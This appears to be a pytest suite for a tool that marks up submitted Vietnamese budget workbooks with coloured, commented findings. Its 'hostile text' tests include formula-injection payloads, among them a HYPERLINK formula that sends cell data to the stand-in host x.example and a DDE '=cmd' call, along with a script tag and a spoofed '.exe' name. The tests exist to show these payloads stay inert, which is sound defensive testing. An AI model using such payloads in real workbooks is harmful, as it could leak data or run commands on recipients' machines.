"""The sender's own workbook back, marked: what is coloured, said and linked, and that nothing else
changes."""

from __future__ import annotations

import re
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from hostile_files import encrypted_package, entities
from marked_books import (
    FALLING,
    HEADING,
    RECHECK,
    TOTAL,
    answers,
    explained,
    formulas,
    mark,
    officers_book,
    opened,
    packed,
    parts_of,
    values,
)
from old_formats import write_ods, write_xls, xlsb_parts
from openxml_audit import FileFormat, OpenXmlValidator
from template_books import filled, written

from expectations.reports.answer_sheet import Mark
from expectations.reports.explanations import LONGEST_EXPLANATION, read_explanations
from expectations.reports.marked import DATA_SHEET, marked_workbook
from expectations.reports.marked_files import Job, mark_files
from expectations.reports.styles_xml import COLOURS
from ingest.contract import all_contracts
from ingest.extract import read_submissions
from ingest.reading import Explanation
from ingest.template import sheet_name

TITLE = "Nội dung cần chỉnh sửa"
KEY, OTHER_KEY = "0123456789abcdef", "fedcba9876543210"
HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"bấm vào đây")'
CONTRACT = next(c for c in all_contracts() if c.form == "b60_thu_nsnn")


@pytest.fixture(scope="module")
def original(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    return officers_book(tmp_path_factory.mktemp("marked") / "a.xlsx")


def marked(content: bytes, *marks: Mark) -> bytes:
    return marked_workbook(content, marks, HEADING).content


def not_kept(content: bytes, *marks: Mark) -> str:
    return " ".join(marked_workbook(content, marks, HEADING).not_kept)


def colour(content: bytes, sheet: str, cell: str) -> str | None:
    fill = opened(content)[sheet][cell].fill
    return fill.fgColor.rgb if fill.patternType == "solid" else None


def faults(content: bytes, path: Path) -> list[str]:
    path.write_bytes(content)
    return [error.description for error in OpenXmlValidator(FileFormat.OFFICE_2010).validate(path)
            .errors]  # fmt: skip


# --- what is marked -------------------------------------------------------------------------------


def test_cell_has_the_colour_of_its_severity_and_a_comment(original: bytes) -> None:
    content = marked(
        original, mark("D8"), mark("F2", "warning", FALLING, fix="Đề nghị giải trình.")
    )
    sheet = opened(content)["Biểu 1"]
    assert colour(content, "Biểu 1", "D8") == COLOURS["error"]
    assert sheet["D8"].comment.text == f"Kho Xứ Lạng – phải chỉnh sửa\n{TOTAL}\n{RECHECK}"
    assert colour(content, "Biểu 1", "F2") == COLOURS["warning"] != COLOURS["error"]
    assert sheet["F2"].comment.text.startswith("Kho Xứ Lạng – đề nghị giải trình\nÔ E15: lũy kế")


def test_a_marked_cell_keeps_its_format_but_for_the_fill(original: bytes) -> None:
    before = opened(original)["Biểu 1"]
    after = opened(marked(original, mark("D8"), mark("F2")))["Biểu 1"]
    for cell in ("D8", "F2"):
        for what in ("number_format", "border", "font", "alignment", "protection"):
            assert repr(getattr(after[cell], what)) == repr(getattr(before[cell], what))
    assert before["D9"]._style == after["D9"]._style


def test_what_is_only_to_be_known_is_listed_and_not_coloured(original: bytes) -> None:
    content = marked(original, mark("D8", "info"))
    assert colour(content, "Biểu 1", "D8") is None
    assert opened(content)["Biểu 1"]["D8"].comment is None
    assert any(row[0].startswith("III. Để biết") for row in answers(content))


def test_several_findings_at_one_cell_are_one_comment_of_the_worst(original: bytes) -> None:
    content = marked(original, mark("D8", "warning", FALLING, key=OTHER_KEY), mark("D8"))
    comment = opened(content)["Biểu 1"]["D8"].comment.text
    assert comment.startswith(f"Kho Xứ Lạng – phải chỉnh sửa\n1. {TOTAL}\n")
    assert f"\n2. {FALLING}\n" in comment
    assert colour(content, "Biểu 1", "D8") == COLOURS["error"]


def test_cells_that_are_not_there_are_added_in_their_places(
    original: bytes, tmp_path: Path
) -> None:
    cells = ["B5", "C2", "AA3", "H4", "D13", "C20", "A40"]
    content = marked(original, *(mark(cell) for cell in cells))
    after = opened(content)["Biểu 1"]
    assert [colour(content, "Biểu 1", cell) for cell in cells] == [COLOURS["error"]] * len(cells)
    assert after["H4"].number_format == "#,##0.0"  # of its column
    assert after["C20"].number_format == "0.00%"  # of its row
    assert faults(content, tmp_path / "a.xlsx") == []


def test_of_merged_cells_the_first_is_marked(original: bytes) -> None:
    content = marked(original, mark("B17"))
    assert colour(content, "Biểu 1", "A16") == COLOURS["error"]
    assert opened(content)["Biểu 1"]["A16"].comment is not None


def test_first_sheet_lists_what_to_do_with_links_and_open_cells(original: bytes) -> None:
    content = marked(
        original,
        mark("D8"),
        mark("B2", "warning", FALLING, key=OTHER_KEY, sheet="Ngân sách 'xã' 2026"),
        mark(None, "warning", "Số liệu trùng hoàn toàn tháng 5.", key="file567890"),
    )
    book = opened(content)
    sheet = book.worksheets[0]
    rows = {row[0]: number for number, row in enumerate(answers(content), start=1)}
    assert (sheet.title, book.active.title) == (TITLE, TITLE)
    assert rows["I. Phải chỉnh sửa (1 nội dung)"] < rows["II. Đề nghị giải trình (2 nội dung)"]
    [first] = [row for row in sheet.iter_rows() if row[5].value == TOTAL]
    assert [cell.value for cell in first[1:7]] == ["1", "Biểu 1", "D8", "1.275,1", TOTAL, RECHECK]
    assert first[3].hyperlink.location == "'Biểu 1'!D8"
    assert first[3].hyperlink.target is None
    [second] = [row for row in sheet.iter_rows() if row[5].value == FALLING]
    assert second[3].hyperlink.location == "'Ngân sách ''xã'' 2026'!B2"
    assert (second[0].value, second[7].protection.locked) == (OTHER_KEY, False)
    assert sheet.protection.sheet
    assert first[7].protection.locked
    assert sheet.column_dimensions["A"].hidden


def test_without_findings_both_sections_say_so(original: bytes) -> None:
    rows = [row[0] for row in answers(marked(original))]
    assert rows.count("Không có.") == 2


# --- what is kept ---------------------------------------------------------------------------------


def test_only_what_must_change_does(original: bytes) -> None:
    before, after = parts_of(original), parts_of(marked(original, mark("D8"), mark("B5")))
    changed = {name for name in before if after[name] != before[name]}
    assert changed == {
        "[Content_Types].xml", "docProps/app.xml", "xl/workbook.xml", "xl/styles.xml",
        "xl/_rels/workbook.xml.rels", "xl/comments1.xml", "xl/drawings/vmlDrawing1.vml",
        "xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml",  # the tab that was chosen
    }  # fmt: skip
    assert set(after) - set(before) == {
        "xl/worksheets/sheet_kho1.xml", "xl/worksheets/sheet_kho2.xml",
    }  # fmt: skip
    was, now = before["xl/worksheets/sheet1.xml"], after["xl/worksheets/sheet1.xml"]
    new_cell = re.search(rb'<c r="B5" s="\d+"/>', now)
    assert new_cell is not None
    style = re.compile(rb'(<c r="D8" s=)"\d+"')
    row = re.search(rb'<row r="5"[^>]*>', was)
    assert row is not None
    expected = style.sub(rb"\1", was).replace(row[0], b'<row r="5">')
    assert style.sub(rb"\1", now).replace(new_cell[0], b"") == expected


def test_values_and_formulas_are_the_same(original: bytes) -> None:
    content = marked(original, mark("D14"), mark("E14", "warning"), mark("B5"))
    assert values(content) == values(original)
    assert values(content)["Biểu 1", "D14"] == 6616.5
    assert formulas(content) == formulas(original)


def test_names_of_a_sheet_follow_it(original: bytes) -> None:
    before, after = opened(original), opened(marked(original, mark("D8")))
    name = "Ngân sách 'xã' 2026"
    assert after[name].print_area == before[name].print_area != ""
    assert set(after["Biểu 1"].defined_names) == {"so_lieu"}
    assert after[TITLE].print_area == ""
    assert set(after.defined_names) == {"toan_tep"}


def test_one_tab_is_chosen(original: bytes) -> None:
    parts = parts_of(marked(original, mark("D8")))
    chosen = [name for name, part in parts.items() if b'tabSelected="1"' in part]
    assert chosen == ["xl/worksheets/sheet_kho1.xml"]


def test_a_cell_with_a_comment_of_the_officer_keeps_it(original: bytes) -> None:
    content = marked(original, mark("D3"), mark("D4"))
    sheet = opened(content)["Biểu 1"]
    assert "đã đối chiếu với Kho bạc" in sheet["D3"].comment.text
    assert colour(content, "Biểu 1", "D3") == COLOURS["error"]
    assert sheet["D4"].comment.text.startswith("Kho Xứ Lạng")
    said = "ô Biểu 1!D3 đã có ghi chú của đơn vị, được giữ nguyên"
    assert said in not_kept(original, mark("D3"), mark("D4"))
    assert any(f"Lưu ý: {said}" in row[0] for row in answers(content))


def test_structure_is_valid(original: bytes, tmp_path: Path) -> None:
    marks = (mark("D8"), mark("D3"), mark("Z99", "warning"), mark(None, "warning"))
    assert faults(marked(original, *marks), tmp_path / "a.xlsx") == []
    with xlsxwriter.Workbook(tmp_path / "plain.xlsx") as book:
        book.add_worksheet("Biểu 1").write("A1", "Chỉ tiêu")
    plain = (tmp_path / "plain.xlsx").read_bytes()
    assert faults(marked(plain, *marks), tmp_path / "b.xlsx") == []


def test_same_input_gives_the_same_bytes(original: bytes) -> None:
    assert marked(original, mark("D8")) == marked(original, mark("D8"))


# --- packages as other programs write them --------------------------------------------------------


def test_comments_are_added_beside_buttons(original: bytes, tmp_path: Path) -> None:
    """A drawing of buttons, and no comments yet."""
    parts = parts_of(original)
    del parts["xl/comments1.xml"]
    rels = "xl/worksheets/_rels/sheet1.xml.rels"
    parts[rels] = re.sub(rb"<Relationship [^>]*/comments\"[^>]*/>", b"", parts[rels])
    parts["[Content_Types].xml"] = re.sub(
        rb'<Override PartName="/xl/comments1.xml"[^>]*/>', b"", parts["[Content_Types].xml"]
    )
    content = marked(packed(parts), mark("D8"))
    after = parts_of(content)
    assert after["xl/worksheets/sheet1.xml"].count(b"legacyDrawing ") == 1
    assert after["xl/drawings/vmlDrawing1.vml"].count(b"<v:shape ") == 2
    assert opened(content)["Biểu 1"]["D8"].comment.text.startswith("Kho Xứ Lạng")
    assert faults(content, tmp_path / "a.xlsx") == []


def test_a_drawing_that_cannot_be_added_to_is_left_and_said(original: bytes) -> None:
    parts = parts_of(original)
    parts["xl/drawings/vmlDrawing1.vml"] = b"<html>not a drawing</html>"
    content = marked(packed(parts), mark("D8"))
    assert parts_of(content)["xl/drawings/vmlDrawing1.vml"] == b"<html>not a drawing</html>"
    assert colour(content, "Biểu 1", "D8") == COLOURS["error"]
    assert "trang Biểu 1 có hình vẽ, nút điều khiển" in not_kept(packed(parts), mark("D8"))


def test_prefixed_names_are_patched(original: bytes, tmp_path: Path) -> None:
    parts = parts_of(original)
    for name in ("xl/worksheets/sheet1.xml", "xl/styles.xml", "xl/workbook.xml"):
        parts[name] = re.sub(
            rb"<(/?)(?=\w+[\s/>])", rb"<\1x:", parts[name].replace(b" xmlns=", b" xmlns:x=")
        )
    content = marked(packed(parts), mark("D8"), mark("B5"))
    assert colour(content, "Biểu 1", "D8") == COLOURS["error"]
    assert values(content) == values(original)
    assert faults(content, tmp_path / "a.xlsx") == []


def test_a_part_in_another_encoding_is_patched(original: bytes) -> None:
    parts = parts_of(original)
    text = parts["xl/worksheets/sheet1.xml"].decode()
    parts["xl/worksheets/sheet1.xml"] = text.replace("UTF-8", "UTF-16").encode("utf-16")
    content = marked(packed(parts), mark("D8"))
    assert colour(content, "Biểu 1", "D8") == COLOURS["error"]
    assert values(content) == values(original)


def test_signature_is_taken_off_and_said(original: bytes) -> None:
    parts = parts_of(original)
    parts["_xmlsignatures/origin.sigs"] = b""
    parts["_xmlsignatures/sig1.xml"] = b"<Signature/>"
    parts["_rels/.rels"] = parts["_rels/.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/package/2006/'
        b'relationships/digital-signature/origin" Target="_xmlsignatures/origin.sigs"/>'
        b"</Relationships>",
    )
    made = marked_workbook(packed(parts), [mark("D8")], HEADING)
    assert not [name for name in parts_of(made.content) if "signature" in name]
    assert b"digital-signature" not in parts_of(made.content)["_rels/.rels"]
    assert "chữ ký số của tệp đã được gỡ" in made.not_kept[0]


def test_macros_stay_and_the_name_says_so(original: bytes) -> None:
    parts = parts_of(original)
    parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macro"
    types = parts["[Content_Types].xml"]
    macros = b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    parts["[Content_Types].xml"] = types.replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    ).replace(b"<Override", macros + b"<Override", 1)
    made = marked_workbook(packed(parts), [mark("D8")], HEADING)
    assert made.extension == ".xlsm"
    assert parts_of(made.content)["xl/vbaProject.bin"] == parts["xl/vbaProject.bin"]
    assert b"macroEnabled.main" in parts_of(made.content)["[Content_Types].xml"]


def test_strict_form_of_the_standard_is_answered_with_values(original: bytes) -> None:
    parts = parts_of(original)
    for name in ("xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"):
        parts[name] = parts[name].replace(
            b"http://schemas.openxmlformats.org/spreadsheetml/2006/main",
            b"http://purl.oclc.org/ooxml/spreadsheetml/main",
        )
    made = marked_workbook(packed(parts), [mark("D8")], HEADING)
    assert "tệp gửi có định dạng Strict Open XML; tệp này có định dạng .xlsx" in made.not_kept[0]
    assert values(made.content)["Biểu 1", "D14"] == 6616.5
    assert colour(made.content, "Biểu 1", "D8") == COLOURS["error"]


def old_book(kind: str, path: Path) -> bytes:
    cells = {(1, 1): "Chỉ tiêu", (2, 1): "Tổng số", (2, 2): 1275.1, (3, 2): "-"}
    match kind:
        case ".xls":
            return write_xls(path, cells).read_bytes()
        case ".ods":
            return write_ods(path, cells).read_bytes()
        case _:
            return packed(xlsb_parts(cells))


@pytest.mark.parametrize("kind", [".xls", ".ods", ".xlsb"])
def test_other_formats_are_answered_in_xlsx_with_a_note(kind: str, tmp_path: Path) -> None:
    content = old_book(kind, tmp_path / f"a{kind}")
    made = marked_workbook(content, [mark("B2", sheet="LS-01")], HEADING)
    assert made.extension == ".xlsx"
    assert made.not_kept[0].startswith(f"tệp gửi có định dạng {kind}; tệp này có định dạng .xlsx")
    assert values(made.content)["LS-01", "B2"] == 1275.1
    assert colour(made.content, "LS-01", "B2") == COLOURS["error"]
    assert faults(made.content, tmp_path / "b.xlsx") == []


@pytest.mark.parametrize(
    ("make", "reason"),
    [(encrypted_package, "Tệp có mật khẩu."), (entities, "Tệp chứa khai báo thực thể XML")],
)
def test_a_file_that_cannot_be_opened_is_answered_with_the_list(
    make: object, reason: str, tmp_path: Path
) -> None:
    content = make(tmp_path / "a.xlsx").read_bytes()  # type: ignore[operator]
    finding = mark(None, "error", "Tệp có mật khẩu.", sheet=None, value=None)
    made = marked_workbook(content, [finding], HEADING)
    assert f"không mở được tệp nên phiếu này không kèm các trang của tệp. {reason}" in " ".join(
        made.not_kept
    )
    assert any(row[1] == "Toàn bộ tệp" for row in answers(made.content))


def test_a_file_that_kills_its_reader_is_answered_with_the_list(tmp_path: Path) -> None:
    job = Job(tmp_path / "missing.xlsx", tmp_path / "out" / "a", HEADING, (mark("D8"),))
    [(path, kept)] = mark_files([job], workers=1)
    assert path == tmp_path / "out" / "a.xlsx"
    assert "không mở được tệp" in kept[0]
    assert any(row[4] == TOTAL for row in answers(path.read_bytes()))


# --- hostile text ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text", [HYPERLINK, "+1+1", "-2", "@SUM(A1)", "\t=1+1", "=cmd|'/c calc'!A1"]
)
def test_text_that_looks_like_a_formula_stays_text(original: bytes, text: str) -> None:
    content = marked(original, mark("D8", "warning", text, value=text, fix=text))
    sheet = opened(content).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == text]
    assert len(cells) == 3
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.quotePrefix and cell.number_format == "@" for cell in cells)
    part = parts_of(content)["xl/worksheets/sheet_kho1.xml"]
    assert b"<f" not in re.sub(rb"<formula1>2000</formula1>", b"", part)
    assert set(formulas(content)) == set(formulas(original))


def test_other_hostile_text_is_inert(original: bytes, tmp_path: Path) -> None:
    text = "<script>alert(1)</script>]]>&#x41; \u202egnp.exe\u202c _x0041_\x00\x07\ufffe\ud800"
    content = marked(original, mark("D8", "warning", text, value=text))
    [row] = [row for row in answers(content) if row[2] == "D8"]
    assert row[4] == (
        "<script>alert(1)</script>]]>&#x41; \ufffdgnp.exe\ufffd _x005F_x0041_␀␇\ufffd?"
    )
    assert row[4] in opened(content)["Biểu 1"]["D8"].comment.text
    assert faults(content, tmp_path / "a.xlsx") == []


def test_very_long_text_is_cut_with_a_note(original: bytes) -> None:
    content = marked(original, mark("D8", message="Số liệu " * 4_000, value="9" * 32_000))
    [row] = [row for row in answers(content) if row[2] == "D8"]
    assert row[3].endswith("… (còn nữa)") or "(lược bớt 31.760 ký tự)" in row[3]
    assert all(len(cell) < 1_300 for cell in row)
    heights = [float(h) for h in re.findall(rb' ht="([\d.]+)"',
               parts_of(content)["xl/worksheets/sheet_kho1.xml"])]  # fmt: skip
    assert max(heights) <= 409


def test_a_hostile_name_of_a_sheet_links_to_that_sheet_only(tmp_path: Path) -> None:
    name = '=A1&"<x>"\'!B2#'
    book = openpyxl.Workbook()
    book.active.title = name  # type: ignore[union-attr]
    book.save(tmp_path / "a.xlsx")
    content = marked((tmp_path / "a.xlsx").read_bytes(), mark("D8", sheet=name))
    [row] = [r for r in opened(content).worksheets[0].iter_rows() if r[3].value == "D8"]
    assert row[3].hyperlink.location == "'=A1&\"<x>\"''!B2#'!D8"
    assert colour(content, name, "D8") == COLOURS["error"]


# --- the file that comes back ---------------------------------------------------------------------


def test_a_returned_file_loses_its_old_marks_first(original: bytes, tmp_path: Path) -> None:
    first = marked(original, mark("D8"), mark("F2", "warning"), mark("D3"), mark("B5"))
    again = marked(first, mark("D9"))
    sheet, was = opened(again)["Biểu 1"], opened(original)["Biểu 1"]
    for cell in ("D8", "F2", "D3", "B5"):
        assert repr(sheet[cell].fill) == repr(was[cell].fill)
        assert sheet[cell].number_format == was[cell].number_format
    assert [c.coordinate for r in sheet.iter_rows() for c in r if c.comment] == ["D3", "D9"]
    assert "Kho bạc" in sheet["D3"].comment.text
    assert opened(again).sheetnames == [TITLE, "Biểu 1", "Ngân sách 'xã' 2026", DATA_SHEET]
    assert values(again) == values(original)
    assert (
        opened(again)["Ngân sách 'xã' 2026"].print_area
        == was.parent["Ngân sách 'xã' 2026"].print_area
    )
    assert faults(again, tmp_path / "a.xlsx") == []


def test_marking_again_and_again_does_not_pile_up_formats(original: bytes) -> None:
    once = marked(original, mark("D8"), mark("F2", "warning"))
    sizes, content = [], once
    for _ in range(4):
        content = marked(content, mark("D8"), mark("F2", "warning"))
        sizes.append(len(parts_of(content)["xl/styles.xml"]))
    assert sizes[0] == sizes[-1]
    assert set(parts_of(content)) == set(parts_of(once))


def test_explanations_are_read_back(original: bytes, tmp_path: Path) -> None:
    content = marked(original, mark("D8", "warning", key=KEY), mark("D9", "warning", key=OTHER_KEY))
    (tmp_path / "a.xlsx").write_bytes(explained(content, {KEY: "Do điều chỉnh kế hoạch vốn."}))
    assert read_explanations(tmp_path / "a.xlsx") == [
        Explanation(KEY, "Do điều chỉnh kế hoạch vốn.")
    ]
    assert read_submissions(tmp_path / "a.xlsx").explanations == (
        Explanation(KEY, "Do điều chỉnh kế hoạch vốn."),
    )


def test_explanations_are_known_by_the_sheets_mark_not_its_name(
    original: bytes, tmp_path: Path
) -> None:
    content = explained(marked(original, mark("D8", "warning", key=KEY)), {KEY: "Đúng số."})
    parts = parts_of(content)
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(TITLE.encode(), b"Trang khac")
    (tmp_path / "a.xlsx").write_bytes(packed(parts))
    assert read_explanations(tmp_path / "a.xlsx") == [Explanation(KEY, "Đúng số.")]
    assert "Trang khac" not in opened(marked(packed(parts))).sheetnames


def test_an_officers_sheet_of_the_same_name_is_no_answer(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.active.title = TITLE  # type: ignore[union-attr]
    book.active.append([KEY, "", "", "", "", "", "", "Không phải giải trình"])  # type: ignore[union-attr]
    book.save(tmp_path / "a.xlsx")
    assert read_explanations(tmp_path / "a.xlsx") == []
    content = marked((tmp_path / "a.xlsx").read_bytes(), mark("A1", sheet=TITLE))
    assert opened(content).sheetnames == [f"{TITLE} (2)", TITLE, DATA_SHEET]


def test_an_explanation_is_cut_and_cleaned_and_stays_when_marked_again(
    original: bytes, tmp_path: Path
) -> None:
    finding = mark("D8", "warning", key=KEY)
    content = explained(marked(original, finding), {KEY: "=1+1 \u202e" + "x" * 5_000})
    (tmp_path / "a.xlsx").write_bytes(content)
    [read] = read_explanations(tmp_path / "a.xlsx")
    assert read.text.startswith("=1+1 \ufffdxxx")
    assert len(read.text) == LONGEST_EXPLANATION + 1
    again = marked(content, finding)
    [row] = [row for row in answers(again) if row[2] == "D8"]
    assert row[6] == read.text


def test_what_was_written_into_our_data_is_not_trusted(original: bytes, tmp_path: Path) -> None:
    parts = parts_of(marked(original, mark("F2")))
    fill = b'["fill",{},[["script",{"rgb":"x"},[]],["patternFill",{"patternType":"a\\"b"},[]]]]'
    parts["xl/worksheets/sheet_kho2.xml"] = re.sub(
        rb"\[.fill.,.*?\](?=</t>)", fill.replace(b'"', b"&quot;"),
        parts["xl/worksheets/sheet_kho2.xml"],
    )  # fmt: skip
    again = marked(packed(parts), mark("D9"))
    assert b"script" not in parts_of(again)["xl/styles.xml"]
    assert colour(again, "Biểu 1", "F2") is None
    assert faults(again, tmp_path / "a.xlsx") == []


# --- our own templates ----------------------------------------------------------------------------


def test_a_marked_template_is_read_as_before(tmp_path: Path) -> None:
    path, addresses = written(tmp_path / "a.xlsx", filled(CONTRACT))
    name = sheet_name(CONTRACT)
    before = read_submissions(path)
    marks = [
        mark(address, ("error", "warning")[n % 2], key=f"key{n:08d}", sheet=name)
        for n, address in enumerate(list(addresses.values())[:30])
    ]
    content = marked(path.read_bytes(), *marks)
    assert faults(content, tmp_path / "b.xlsx") == []
    after = read_submissions(tmp_path / "b.xlsx")
    assert after.unread_sheets == before.unread_sheets == ()
    assert [list(s.cells) for s in after.submissions] == [list(s.cells) for s in before.submissions]
    assert [s.remarks for s in after.submissions] == [()]
    assert after.submissions[0].period_key == before.submissions[0].period_key
    assert opened(content)[name].protection.sheet
